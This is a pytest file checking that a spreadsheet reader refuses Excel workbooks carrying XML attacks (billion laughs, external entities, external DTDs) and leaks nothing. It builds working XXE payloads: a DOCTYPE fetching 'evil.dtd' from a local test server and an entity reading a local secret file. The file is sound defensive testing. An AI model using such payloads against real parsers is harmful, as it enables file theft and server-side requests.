"""Workbooks carrying XML attacks are refused with a sentence, quickly, and nothing they name is fetched."""

from __future__ import annotations

import importlib.util
import time
from pathlib import Path

import openpyxl
import pytest
from openpyxl.xml import functions as openpyxl_xml

from bulk_tasks.errors import UnreadableFileError
from bulk_tasks.read.table import read_table
from netfaults import raw_server

CORPUS = Path(__file__).parents[1] / "data" / "corpus"
_spec = importlib.util.spec_from_file_location("make_corpus", CORPUS.parent / "make_corpus.py")
make_corpus = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(make_corpus)


def test_openpyxl_parses_through_defusedxml():
    assert openpyxl.DEFUSEDXML is True
    assert openpyxl_xml.iterparse.__module__.startswith("defusedxml")
    assert openpyxl_xml.fromstring.__module__.startswith("defusedxml")


@pytest.mark.parametrize("name", ["billion_laughs.xlsx", "external_entity.xlsx", "external_dtd.xlsx"])
def test_attack_workbooks_are_refused_with_a_sentence(name):
    started = time.monotonic()
    with pytest.raises(UnreadableFileError) as refused:
        read_table(CORPUS / name)
    assert time.monotonic() - started < 2
    message = str(refused.value)
    assert message.startswith(f"{name} contains XML entity declarations")
    assert "save the sheet again from Excel" in message
    assert "Error" not in message and "Exception" not in message


def test_an_external_dtd_is_never_fetched(tmp_path):
    async def record_only(reader, writer, stop):
        await reader.read(1)

    with raw_server(record_only) as server:
        doctype = f'<!DOCTYPE workbook [<!ENTITY % remote SYSTEM "{server.url}/evil.dtd">%remote;]>'
        book = make_corpus.xlsx_bytes([make_corpus.Sheet("Tasks", [make_corpus.QUO_HEADER, ["A", "B", "PNk3Ra9XwQ2m"]])],
                                      workbook_doctype=doctype)
        path = tmp_path / "fetches.xlsx"
        path.write_bytes(book)
        with pytest.raises(UnreadableFileError, match="XML entity declarations"):
            read_table(path)
        assert server.connections == 0


def test_an_entity_in_the_sheet_does_not_leak_a_local_file(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT", encoding="utf-8")
    doctype = f'<!DOCTYPE worksheet [<!ENTITY leak SYSTEM "{secret.as_uri()}">]>'
    leak = make_corpus.Cell('<is><t>&leak;</t></is>', "raw")
    book = make_corpus.xlsx_bytes([make_corpus.Sheet("Tasks", [make_corpus.QUO_HEADER, ["T", leak, "PNk3Ra9XwQ2m"]],
                                                     doctype=doctype)])
    book = make_corpus._replace_member(book, "xl/worksheets/sheet1.xml", b'<c r="B2">', b'<c r="B2" t="inlineStr">')
    path = tmp_path / "leak.xlsx"
    path.write_bytes(book)
    with pytest.raises(UnreadableFileError) as refused:
        read_table(path)
    assert "TOP-SECRET-CONTENT" not in str(refused.value)
